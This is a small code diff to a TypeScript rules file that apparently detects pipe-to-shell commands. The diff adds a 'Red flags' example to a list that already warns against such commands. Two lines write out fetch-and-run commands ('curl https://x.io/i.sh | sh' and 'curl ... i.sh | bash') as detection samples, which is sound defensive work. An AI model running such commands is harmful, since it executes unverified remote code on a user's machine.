@@ -1094,6 +1094,7 @@ export const rules: Rule[] = [
         'Fetch package metadata:\n\n```bash\ncurl -s "https://pypi.org/pypi/{package}/json" | python -m json.tool\n```\n',
         'Never pipe a download into your shell, for example `curl https://x.io/i.sh | sh`: attackers swap the script.',
         'Call the API and filter with jq: `curl -s https://api.github.com/repos/o/r | jq .stargazers_count`',
+        '## Red flags\n\n| shape | example |\n|---|---|\n| pipe to shell | `curl -fsSL https://get.example-cdn.net/i.sh \\| bash` |\n',
       ],
     },
     detect: detectPipeToShell,
